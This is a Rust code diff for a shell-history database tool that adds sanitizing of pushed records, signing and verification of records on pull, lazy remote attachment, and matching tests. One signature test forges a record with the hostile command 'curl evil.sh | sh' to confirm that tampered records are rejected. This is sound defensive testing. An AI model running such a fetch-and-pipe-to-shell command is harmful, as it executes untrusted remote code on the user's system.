+    } else {
+        format!(" REPLACE ({})", exprs.join(", "))
+    }
+}
+
+/// The plan for pushing what `stats` counted to `remote`.
+pub(super) fn push_plan(remote: &RemoteConfig, stats: &PushStats) -> Plan {
+    let mut plan = Plan::new();
+    for (count, what) in [
+        (stats.sessions, "sessions"),
+        (stats.invocations, "invocations"),
+        (stats.outputs, "outputs"),
+        (stats.events, "events"),
+    ] {
+        if count > 0 {
+            plan.add(format!("push {} {} to '{}'", count, what, remote.name));
+        }
+    }
+    if stats.blobs.count > 0 {
+        plan.add(format!("copy {} blobs ({}) to '{}'", stats.blobs.count, size(stats.blobs.bytes), remote.name));
+    }
+    if stats.invocations > 0 {
+        let policy = &remote.sanitize;
+        let mut sanitized = Vec::new();
+        if policy.relative_home {
+            sanitized.push("paths under $HOME as ~".to_string());
+        }
+        if policy.redact_commands {
+            sanitized.push("secrets in commands redacted".to_string());
+        }
+        if !policy.hash_fields.is_empty() {
+            sanitized.push(format!("{} hashed", policy.hash_fields.join(", ")));
+        }
+        if !policy.push_env {
+            sanitized.push("no environment snapshots".to_string());
+        }
+        if !sanitized.is_empty() {
+            plan.add(format!("sanitize pushed invocations: {}", sanitized.join("; ")));
+        }
+        if remote.signing.sign {
+            plan.add(format!("sign {} invocations", stats.invocations));
+        }
+    }
+    plan
+}
+
+/// Push attempts through a staging table so `policy` can be applied.
+fn push_attempts_sanitized(
+    conn: &Connection,
+    remote_schema: &str,
+    since: Option<NaiveDate>,
+    policy: &SanitizePolicy,
+) -> Result<usize> {
+    let replace = sanitize_replace(
+        policy,
+        sanitize_home(policy).as_deref(),
+        &[("cwd", "l.cwd"), ("hostname", "l.hostname"), ("client", "l.source_client")],
+        Some("l.metadata"),
+    );
+
+    conn.execute_batch(&format!(
+        r#"
+        CREATE OR REPLACE TEMP TABLE push_attempts AS
+        SELECT l.*{replace}
+        FROM local.attempts l
+        WHERE NOT EXISTS (
+            SELECT 1 FROM {remote}.attempts r WHERE r.id = l.id
+        )
+        {since}
+        "#,
+        replace = replace,
+        remote = remote_schema,
+        since = since_clause(since, "l.timestamp"),
+    ))?;
+
+    if policy.redact_commands {
+        let mut stmt = conn.prepare("SELECT id::VARCHAR, cmd FROM push_attempts")?;
+        let rows: Vec<(String, String)> = stmt
+            .query_map([], |row| Ok((row.get(0)?, row.get(1)?)))?
+            .collect::<std::result::Result<_, _>>()?;
+
+        for (id, cmd) in rows {
+            let redacted = crate::privacy::redact_command(&cmd);
+            if redacted != cmd {
+                conn.execute(
+                    "UPDATE push_attempts SET cmd = ? WHERE id = ?::UUID",
+                    params![redacted, id],
+                )?;
+            }
+        }
+    }
+
+    let count = conn.execute(
+        &format!("INSERT INTO {}.attempts SELECT * FROM push_attempts", remote_schema),
+        [],
+    )?;
+    conn.execute("DROP TABLE push_attempts", [])?;
+    Ok(count)
+}
+
+/// Push events with `policy` applied to their host, client and source file.
+fn push_events_sanitized(
+    conn: &Connection,
+    remote_schema: &str,
+    since: Option<NaiveDate>,
+    policy: &SanitizePolicy,
+) -> Result<usize> {
+    let replace = sanitize_replace(
+        policy,
+        sanitize_home(policy).as_deref(),
+        &[("hostname", "l.hostname"), ("client", "l.client_id"), ("ref_file", "l.ref_file")],
+        None,
+    );
+
+    let sql = format!(
+        r#"
+        INSERT INTO {remote}.events
+        SELECT l.*{replace}
+        FROM local.events l
+        JOIN local.attempts a ON a.id = l.invocation_id
+        WHERE NOT EXISTS (
+            SELECT 1 FROM {remote}.events r WHERE r.id = l.id
+        )
+        {since}
+        "#,
+        remote = remote_schema,
+        replace = replace,
+        since = since_clause(since, "a.timestamp"),
+    );
+
+    let count = conn.execute(&sql, [])?;
+    Ok(count)
+}
+
 /// Push sessions from `local` to remote.
 /// V5 schema: joins on attempts instead of invocations.
 fn push_sessions(
     conn: &Connection,
     remote_schema: &str,
     since: Option<NaiveDate>,
+    policy: &SanitizePolicy,
 ) -> Result<usize> {
     let since_filter = since_clause(since, "a.timestamp");
+    let replace = sanitize_replace(
+        policy,
+        sanitize_home(policy).as_deref(),
+        &[("cwd", "s.cwd"), ("client", "s.client_id")],
+        None,
+    );
 
     let sql = format!(
         r#"
         INSERT INTO {remote}.sessions
-        SELECT DISTINCT s.*
+        SELECT DISTINCT s.*{replace}
         FROM local.sessions s
         JOIN local.attempts a ON a.session_id = s.session_id
         WHERE NOT EXISTS (
@@ -821,6 +1518,7 @@ fn push_sessions(
         {since}
         "#,
         remote = remote_schema,
+        replace = replace,
         since = since_filter,
     );
 
@@ -878,7 +1576,7 @@ fn push_table(
             format!(
                 r#"
                 INSERT INTO {remote}.{table}
-                SELECT l.*
+                SELECT {columns}
                 FROM local.{table} l
                 JOIN local.attempts a ON a.id = l.invocation_id
                 WHERE NOT EXISTS (
@@ -887,6 +1585,7 @@ fn push_table(
                 {since}
                 "#,
                 table = table,
+                columns = if table == "outputs" { "l.* EXCLUDE (sequence)" } else { "l.*" },
                 remote = remote_schema,
                 since = since_filter,
             )
@@ -969,12 +1668,14 @@ fn pull_table(
                 )
                 {since}
                 {client}
+                {untrusted}
                 "#,
+                untrusted = untrusted_clause("r.id"),
                 cached = cached_schema,
                 remote = remote_schema,
                 since = since_filter,
-                client = if client_id.is_some() {
-                    format!("AND r.source_client = '{}'", client_id.unwrap().replace('\'', "''"))
+                client = if let Some(client_id) = client_id {
+                    format!("AND r.source_client = '{}'", client_id.replace('\'', "''"))
                 } else {
                     String::new()
                 },
@@ -994,12 +1695,14 @@ fn pull_table(
                 )
                 {since}
                 {client}
+                {untrusted}
                 "#,
+                untrusted = untrusted_clause("r.attempt_id"),
                 cached = cached_schema,
                 remote = remote_schema,
                 since = since_filter,
-                client = if client_id.is_some() {
-                    format!("AND a.source_client = '{}'", client_id.unwrap().replace('\'', "''"))
+                client = if let Some(client_id) = client_id {
+                    format!("AND a.source_client = '{}'", client_id.replace('\'', "''"))
                 } else {
                     String::new()
                 },
@@ -1019,12 +1722,14 @@ fn pull_table(
                 )
                 {since}
                 {client}
+                {untrusted}
                 "#,
+                untrusted = untrusted_clause("r.invocation_id"),
                 cached = cached_schema,
                 remote = remote_schema,
                 since = since_filter,
-                client = if client_id.is_some() {
-                    format!("AND a.source_client = '{}'", client_id.unwrap().replace('\'', "''"))
+                client = if let Some(client_id) = client_id {
+                    format!("AND a.source_client = '{}'", client_id.replace('\'', "''"))
                 } else {
                     String::new()
                 },
@@ -1043,12 +1748,14 @@ fn pull_table(
                 )
                 {since}
                 {client}
+                {untrusted}
                 "#,
+                untrusted = untrusted_clause("r.invocation_id"),
                 cached = cached_schema,
                 remote = remote_schema,
                 since = since_filter,
-                client = if client_id.is_some() {
-                    format!("AND a.source_client = '{}'", client_id.unwrap().replace('\'', "''"))
+                client = if let Some(client_id) = client_id {
+                    format!("AND a.source_client = '{}'", client_id.replace('\'', "''"))
                 } else {
                     String::new()
                 },
@@ -1149,21 +1856,35 @@ fn get_blobs_to_push(
     Ok(blobs)
 }
 
-/// Get blobs that were pulled (in remote outputs but not in local blob_registry).
+/// A blob name referenced by pulled outputs.
+#[derive(Debug)]
+struct PulledBlob {
+    content_hash: String,
+    /// Path the output references, relative to data_dir.
+    ref_path: String,
+    /// Path of the content on the remote, relative to its data_dir.
+    remote_path: String,
+    /// Path of the same content already stored locally, if any.
+    local_path: Option<String>,
+    byte_length: i64,
+}
+
+/// Get the blob names referenced by pulled outputs, with where their content
+/// lives on the remote and (if anywhere) locally.
 fn get_blobs_to_pull(
     conn: &Connection,
     remote_schema: &str,
     cached_schema: &str,
-) -> Result<Vec<BlobInfo>> {
+) -> Result<Vec<PulledBlob>> {
     let sql = format!(
         r#"
-        SELECT DISTINCT o.content_hash, b.storage_path, o.byte_length
+        SELECT DISTINCT o.content_hash, o.storage_ref[8:], b.storage_path, r.storage_path, o.byte_length
         FROM {cached}.outputs o
         JOIN {remote}.blob_registry b ON b.content_hash = o.content_hash
+        LEFT JOIN blob_registry r ON r.content_hash = o.content_hash
         WHERE o.storage_type = 'blob'
-          AND NOT EXISTS (
-              SELECT 1 FROM blob_registry r WHERE r.content_hash = o.content_hash
-          )
+          AND o.storage_ref LIKE 'file://%'
+        ORDER BY o.content_hash
         "#,
         cached = cached_schema,
         remote = remote_schema,
@@ -1172,10 +1893,12 @@ fn get_blobs_to_pull(
     let mut stmt = conn.prepare(&sql)?;
     let blobs = stmt
         .query_map([], |row| {
-            Ok(BlobInfo {
+            Ok(PulledBlob {
                 content_hash: row.get(0)?,
-                storage_path: row.get(1)?,
-                byte_length: row.get(2)?,
+                ref_path: row.get(1)?,
+                remote_path: row.get(2)?,
+                local_path: row.get(3)?,
+                byte_length: row.get(4)?,
             })
         })?
         .filter_map(|r| r.ok())
@@ -1196,10 +1919,11 @@ fn push_outputs(
 
     // For now, we keep storage_ref as-is. The blob files are synced separately.
     // The storage_ref format (file://recent/blobs/...) is relative and works on both sides.
+    // Remote outputs have no sequence column; pulled copies number parts by id.
     let sql = format!(
         r#"
         INSERT INTO {remote}.outputs
-        SELECT l.*
+        SELECT l.* EXCLUDE (sequence)
         FROM local.outputs l
         JOIN local.attempts a ON a.id = l.invocation_id
         WHERE NOT EXISTS (
@@ -1226,8 +1950,8 @@ fn pull_outputs(
     _sync_blobs: bool,
 ) -> Result<usize> {
     let since_filter = since_clause(since, "a.timestamp");
-    let client_filter = if client_id.is_some() {
-        format!("AND a.source_client = '{}'", client_id.unwrap().replace('\'', "''"))
+    let client_filter = if let Some(client_id) = client_id {
+        format!("AND a.source_client = '{}'", client_id.replace('\'', "''"))
     } else {
         String::new()
     };
@@ -1245,7 +1969,9 @@ fn pull_outputs(
         )
         {since}
         {client}
+        {untrusted}
         "#,
+        untrusted = untrusted_clause("r.invocation_id"),
         cached = cached_schema,
         remote = remote_schema,
         since = since_filter,
@@ -1262,7 +1988,7 @@ mod tests {
     use crate::config::{RemoteConfig, RemoteMode, RemoteType};
     use crate::init::initialize;
     use crate::schema::InvocationRecord;
-    use crate::store::{ConnectionOptions, Store};
+    use crate::store::{attached_databases, ConnectionOptions, Store};
     use crate::Config;
     use tempfile::TempDir;
 
@@ -1282,43 +2008,12 @@ mod tests {
             mode: RemoteMode::ReadWrite,
             auto_attach: true,
             credential_provider: None,
+            attach_timeout: None,
+            sanitize: Default::default(),
+            signing: Default::default(),
         }
     }
 
-    // ===== Date parsing tests =====
-
-    #[test]
-    fn test_parse_since_days() {
-        let today = Utc::now().date_naive();
-        let result = parse_since("7d").unwrap();
-        assert_eq!(result, today - TimeDelta::days(7));
-    }
-
-    #[test]
-    fn test_parse_since_weeks() {
-        let today = Utc::now().date_naive();
-        let result = parse_since("2w").unwrap();
-        assert_eq!(result, today - TimeDelta::days(14));
-    }
-
-    #[test]
-    fn test_parse_since_months() {
-        let today = Utc::now().date_naive();
-        let result = parse_since("1m").unwrap();
-        assert_eq!(result, today - TimeDelta::days(30));
-    }
-
-    #[test]
-    fn test_parse_since_date() {
-        let result = parse_since("2024-01-15").unwrap();
-        assert_eq!(result, NaiveDate::from_ymd_opt(2024, 1, 15).unwrap());
-    }
-
-    #[test]
-    fn test_parse_since_invalid() {
-        assert!(parse_since("invalid").is_err());
-    }
-
     // ===== Push/Pull integration tests =====
 
     #[test]
@@ -1346,6 +2041,271 @@ mod tests {
         assert!(remote_path.exists(), "Remote database file should be created");
     }
 
+    #[test]
+    fn test_push_sanitizes_records() {
+        let (tmp, store) = setup_store_duckdb();
+
+        let inv = InvocationRecord::new(
+            "test-session",
+            "mysql --password=hunter2 -e 'select 1'",
+            "/home/user",
+            0,
+            "test@client",
+        );
+        store.write_invocation(&inv).unwrap();
+
+        let remote_path = tmp.path().join("remote.duckdb");
+        let mut remote = create_file_remote("test", &remote_path);
+        remote.sanitize = SanitizePolicy {
+            redact_commands: true,
+            hash_fields: vec!["cwd".to_string()],
+            ..Default::default()
+        };
+
+        let stats = store.push(&remote, PushOptions::default()).unwrap();
+        assert_eq!(stats.invocations, 1);
+
+        let conn = store.connection_with_options(false).unwrap();
+        store.attach_remote(&conn, &remote).unwrap();
+        let (cmd, cwd): (String, String) = conn
+            .query_row("SELECT cmd, cwd FROM \"remote_test\".attempts", [], |row| {
+                Ok((row.get(0)?, row.get(1)?))
+            })
+            .unwrap();
+        assert!(!cmd.contains("hunter2"), "secret pushed: {}", cmd);
+        assert_ne!(cwd, "/home/user");
+
+        // Local copy is untouched
+        let local_cmd: String = conn
+            .query_row("SELECT cmd FROM local.attempts", [], |row| row.get(0))
+            .unwrap();
+        assert!(local_cmd.contains("mysql"));
+    }
+
+    #[test]
+    fn test_push_sanitizes_events() {
+        let Ok(home) = std::env::var("HOME") else { return };
+        let home = home.trim_end_matches('/').to_string();
+        if home.is_empty() {
+            return;
+        }
+        let (tmp, store) = setup_store_duckdb();
+
+        let inv = InvocationRecord::new("test-session", "cargo build", "/tmp", 1, "test@client");
+        store.write_invocation(&inv).unwrap();
+        let mut event = crate::schema::EventRecord::new(inv.id, "test@client", "cargo", inv.date());
+        event.hostname = Some("build-box".to_string());
+        event.ref_file = Some(format!("{}/src/app/main.rs", home));
+        store.write_events(&[event]).unwrap();
+
+        let mut remote = create_file_remote("test", &tmp.path().join("remote.duckdb"));
+        remote.sanitize = SanitizePolicy {
+            relative_home: true,
+            hash_fields: vec!["hostname".to_string(), "client".to_string()],
+            ..Default::default()
+        };
+        assert_eq!(store.push(&remote, PushOptions::default()).unwrap().events, 1);
+
+        let conn = store.connection_with_options(false).unwrap();
+        store.attach_remote(&conn, &remote).unwrap();
+        let (hostname, client_id, ref_file): (String, String, String) = conn
+            .query_row("SELECT hostname, client_id, ref_file FROM \"remote_test\".events", [], |row| {
+                Ok((row.get(0)?, row.get(1)?, row.get(2)?))
+            })
+            .unwrap();
+        let key = sanitize_key(store.config(), "test").unwrap();
+        assert_eq!(hostname, sanitize_hash(&key, "build-box"));
+        assert_eq!(client_id, sanitize_hash(&key, "test@client"));
+        assert_eq!(ref_file, "~/src/app/main.rs");
+
+        // Same hashes as the invocation they belong to
+        let source_client: String = conn
+            .query_row("SELECT source_client FROM \"remote_test\".attempts", [], |row| row.get(0))
+            .unwrap();
+        assert_eq!(source_client, client_id);
+        assert_ne!(hostname, "build-box");
+    }
+
+    #[test]
+    fn test_push_drops_env_snapshots() {
+        let (tmp, store) = setup_store_duckdb();
+
+        let inv = InvocationRecord::new("test-session", "make deploy", "/home/user", 0, "test@client")
+            .with_metadata("env", serde_json::json!({"DATABASE_URL": "postgres://app:hunter2@db/app"}))
+            .with_metadata("vcs", serde_json::json!({"branch": "main"}));
+        store.write_invocation(&inv).unwrap();
+
+        let mut remote = create_file_remote("test", &tmp.path().join("remote.duckdb"));
+        assert_eq!(store.push(&remote, PushOptions::default()).unwrap().invocations, 1);
+
+        let conn = store.connection_with_options(false).unwrap();
+        store.attach_remote(&conn, &remote).unwrap();
+        let keys = |sql: &str| -> Vec<String> {
+            conn.prepare(sql)
+                .unwrap()
+                .query_map([], |row| row.get(0))
+                .unwrap()
+                .collect::<std::result::Result<_, _>>()
+                .unwrap()
+        };
+        let pushed = "SELECT unnest(map_keys(metadata)) AS k FROM \"remote_test\".attempts ORDER BY k";
+        assert_eq!(keys(pushed), vec!["vcs"]);
+        assert_eq!(keys("SELECT unnest(map_keys(metadata)) AS k FROM local.attempts ORDER BY k"), vec!["env", "vcs"]);
+        drop(conn);
+
+        // Only when the remote's policy asks for them
+        remote.sanitize.push_env = true;
+        let inv = InvocationRecord::new("test-session", "make test", "/home/user", 0, "test@client")
+            .with_metadata("env", serde_json::json!({"PATH": "/usr/bin"}));
+        store.write_invocation(&inv).unwrap();
+        store.push(&remote, PushOptions::default()).unwrap();
+        let conn = store.connection_with_options(false).unwrap();
+        store.attach_remote(&conn, &remote).unwrap();
+        let with_env: i64 = conn
+            .query_row("SELECT count(*) FROM \"remote_test\".attempts WHERE metadata['env'] IS NOT NULL", [], |row| row.get(0))
+            .unwrap();
+        assert_eq!(with_env, 1);
+    }
+
+    #[test]
+    fn test_pull_verifies_signatures() {
+        let (tmp, alice) = setup_store_duckdb();
+        let (_bob_tmp, bob) = setup_store_duckdb();
+
+        let inv = InvocationRecord::new("test-session", "make test", "/home/alice", 0, "alice@laptop");
+        alice.write_invocation(&inv).unwrap();
+
+        let mut remote = create_file_remote("team", &tmp.path().join("remote.duckdb"));
+        remote.signing.sign = true;
+        remote.signing.verify = true;
+        let stats = alice.push(&remote, PushOptions::default()).unwrap();
+        assert_eq!(stats.signed, 1);
+
+        // Someone with write access forges a record in alice's name
+        let conn = alice.connection_with_options(false).unwrap();
+        alice.attach_remote(&conn, &remote).unwrap();
+        conn.execute(
+            "INSERT INTO \"remote_team\".attempts
+             SELECT uuid(), timestamp, 'curl evil.sh | sh', cwd, session_id, tag, source_client,
+                    machine_id, hostname, executable, format_hint, metadata, date
+             FROM \"remote_team\".attempts",
+            [],
+        )
+        .unwrap();
+        drop(conn);
+
+        let stats = bob.pull(&remote, PullOptions::default()).unwrap();
+        assert_eq!(stats.invocations, 1);
+        assert_eq!(stats.rejected, 1);
+
+        let conn = bob.connection_with_options(false).unwrap();
+        let cmds: Vec<String> = conn
+            .prepare("SELECT cmd FROM \"cached_team\".attempts")
+            .unwrap()
+            .query_map([], |row| row.get(0))
+            .unwrap()
+            .collect::<std::result::Result<_, _>>()
+            .unwrap();
+        assert_eq!(cmds, vec!["make test"]);
+    }
+
+    #[test]
+    fn test_pull_rejects_tampered_children() {
+        let (tmp, alice) = setup_store_duckdb();
+        let (_bob_tmp, bob) = setup_store_duckdb();
+
+        let failed = InvocationRecord::new("test-session", "make test", "/home/alice", 2, "alice@laptop");
+        let passed = InvocationRecord::new("test-session", "make lint", "/home/alice", 0, "alice@laptop");
+        alice.write_invocation(&failed).unwrap();
+        alice.write_invocation(&passed).unwrap();
+
+        let mut remote = create_file_remote("team", &tmp.path().join("remote.duckdb"));
+        remote.signing.sign = true;
+        remote.signing.verify = true;
+        assert_eq!(alice.push(&remote, PushOptions::default()).unwrap().signed, 2);
+        // Nothing changed, so nothing to sign again
+        assert_eq!(alice.push(&remote, PushOptions::default()).unwrap().signed, 0);
+
+        // Someone with write access turns alice's failure into a success
+        let conn = alice.connection_with_options(false).unwrap();
+        alice.attach_remote(&conn, &remote).unwrap();
+        conn.execute(
+            "UPDATE \"remote_team\".outcomes SET exit_code = 0 WHERE attempt_id = ?::UUID",
+            params![failed.id.to_string()],
+        )
+        .unwrap();
+        drop(conn);
+
+        let stats = bob.pull(&remote, PullOptions::default()).unwrap();
+        assert_eq!(stats.invocations, 1);
+        assert_eq!(stats.rejected, 1);
+
+        // ...then adds an output to the invocation bob already has
+        let conn = alice.connection_with_options(false).unwrap();
+        alice.attach_remote(&conn, &remote).unwrap();
+        conn.execute(
+            "INSERT INTO \"remote_team\".outputs VALUES
+             (uuid(), ?::UUID, 'stdout', 'abc', 3, 'inline', 'data:,evil', NULL, current_date)",
+            params![passed.id.to_string()],
+        )
+        .unwrap();
+        drop(conn);
+
+        let stats = bob.pull(&remote, PullOptions::default()).unwrap();
+        assert_eq!(stats.outputs, 0);
+
+        let conn = bob.connection_with_options(false).unwrap();
+        let (attempts, outcomes, outputs): (i64, i64, i64) = conn
+            .query_row(
+                "SELECT (SELECT COUNT(*) FROM \"cached_team\".attempts),
+                        (SELECT COUNT(*) FROM \"cached_team\".outcomes),
+                        (SELECT COUNT(*) FROM \"cached_team\".outputs)",
+                [],
+                |row| Ok((row.get(0)?, row.get(1)?, row.get(2)?)),
+            )
+            .unwrap();
+        assert_eq!((attempts, outcomes, outputs), (1, 1, 0));
+    }
+
+    #[test]
+    fn test_push_rejects_unknown_hash_field() {
+        let (tmp, store) = setup_store_duckdb();
+
+        let mut remote = create_file_remote("test", &tmp.path().join("remote.duckdb"));
+        remote.sanitize.hash_fields = vec!["cmd".to_string()];
+
+        assert!(store.push(&remote, PushOptions::default()).is_err());
+    }
+
+    #[test]
+    fn test_sanitize_replace() {
+        let noop = SanitizePolicy { push_env: true, ..Default::default() };
+        assert!(noop.is_noop());
+        assert_eq!(sanitize_replace(&noop, None, &[("cwd", "l.cwd")], Some("l.metadata")), "");
+        // By default only the environment snapshot is dropped
+        assert_eq!(
+            sanitize_replace(&SanitizePolicy::default(), None, &[("cwd", "l.cwd")], Some("l.metadata")),
+            " REPLACE (map_from_entries(list_filter(map_entries(l.metadata), e -> e.key <> 'env')) AS metadata)"
+        );
+
+        let policy = SanitizePolicy {
+            relative_home: true,
+            hash_fields: vec!["hostname".to_string()],
+            ..Default::default()
+        };
+        let clause = sanitize_replace(
+            &policy,
+            Some("/home/al"),
+            &[("cwd", "l.cwd"), ("hostname", "l.hostname"), ("client", "l.source_client")],
+            Some("l.metadata"),
+        );
+        assert!(clause.starts_with(" REPLACE ("));
+        assert!(clause.contains("starts_with(l.cwd, '/home/al/') THEN '~' || l.cwd[9:]"));
+        assert!(clause.contains("(SELECT h.hashed FROM sanitize_hashes h WHERE h.value = l.hostname) AS hostname"));
+        assert!(!clause.contains("source_client"));
+        assert!(clause.contains("AS metadata"));
+    }
+
     #[test]
     fn test_push_is_idempotent() {
         let (tmp, store) = setup_store_duckdb();
@@ -1403,6 +2363,8 @@ mod tests {
             .unwrap();
 
         assert_eq!(dry_stats.invocations, 1, "Dry run should count invocations");
+        assert!(dry_stats.plan.actions().contains(&"push 1 invocations to 'test'".to_string()));
+        assert!(dry_stats.plan.actions().contains(&"sanitize pushed invocations: no environment snapshots".to_string()));
 
         // Actual push should still transfer data (dry run didn't modify)
         let actual_stats = store.push(&remote, PushOptions::default()).unwrap();
@@ -1732,6 +2694,9 @@ mod tests {
             mode: RemoteMode::ReadOnly,
             auto_attach: true,
             credential_provider: None,
+            attach_timeout: None,
+            sanitize: Default::default(),
+            signing: Default::default(),
         };
 
         // Manually attach the remote to test heterogeneous querying
@@ -1795,6 +2760,9 @@ mod tests {
             mode: RemoteMode::ReadOnly,
             auto_attach: true,
             credential_provider: None,
+            attach_timeout: None,
+            sanitize: Default::default(),
+            signing: Default::default(),
         };
 
         // Manually attach the remote (this should also set file_search_path)
@@ -1817,6 +2785,34 @@ mod tests {
         assert_eq!(remote_count, 1, "Should be able to query Parquet remote from DuckDB local");
     }
 
+    #[test]
+    fn test_lazy_remote_attachment() {
+        let (local_tmp, _local_store) = setup_store_parquet();
+
+        let remote_tmp = TempDir::new().unwrap();
+        let remote_config = Config::with_duckdb_mode(remote_tmp.path());
+        initialize(&remote_config).unwrap();
+        let remote_store = Store::open(remote_config).unwrap();
+        let inv = InvocationRecord::new("remote-session", "remote-cmd", "/home/remote", 0, "remote@client");
+        remote_store.write_invocation(&inv).unwrap();
+
+        let mut config = Config::with_root(local_tmp.path());
+        config.remotes.push(create_file_remote("lazy", &remote_tmp.path().join("db/bird.duckdb")));
+        let store = Store::open(config).unwrap();
+
+        // Opening a connection and reading local data attaches nothing
+        let conn = store.connection().unwrap();
+        conn.query_row("SELECT COUNT(*) FROM main.invocations", [], |r| r.get::<_, i64>(0))
+            .unwrap();
+        assert!(!attached_databases(&conn).unwrap().contains(&"remote_lazy".to_string()));
+        drop(conn);
+
+        // Referencing unified data attaches the remote first
+        let result = store.query("SELECT cmd FROM unified.invocations").unwrap();
+        assert_eq!(result.rows.len(), 1);
+        assert_eq!(result.rows[0][0], "remote-cmd");
+    }
+
     #[test]
     fn test_heterogeneous_unified_views() {
         // This tests the full heterogeneous setup with unified views
@@ -1858,13 +2854,16 @@ mod tests {
             mode: RemoteMode::ReadOnly,
             auto_attach: true,
             credential_provider: None,
+            attach_timeout: None,
+            sanitize: Default::default(),
+            signing: Default::default(),
         });
 
         // Open store with remote config
         let store = Store::open(config).unwrap();
 
-        // Connection with auto-attach should set up unified views
-        let conn = store.connection().unwrap();
+        // Eager connection should attach the remote and set up unified views
+        let conn = store.connect(ConnectionOptions::eager()).unwrap();
 
         // Query local data
         let local_count: i64 = conn
@@ -1921,6 +2920,9 @@ mod tests {
             mode: RemoteMode::ReadOnly,
             auto_attach: true,
             credential_provider: None,
+            attach_timeout: None,
+            sanitize: Default::default(),
+            signing: Default::default(),
         };
 
         let conn = store.connection_with_options(false).unwrap();
@@ -1966,6 +2968,9 @@ mod tests {
             mode: RemoteMode::ReadOnly,
             auto_attach: true,
             credential_provider: None,
+            attach_timeout: None,
+            sanitize: Default::default(),
+            signing: Default::default(),
         };
 
         // Push to read-only should fail
@@ -2001,6 +3006,9 @@ mod tests {
             mode: RemoteMode::ReadOnly,
             auto_attach: true,
             credential_provider: None,
+            attach_timeout: None,
+            sanitize: Default::default(),
+            signing: Default::default(),
         };
 
         // Dry run on read-only should return empty stats (nothing to push)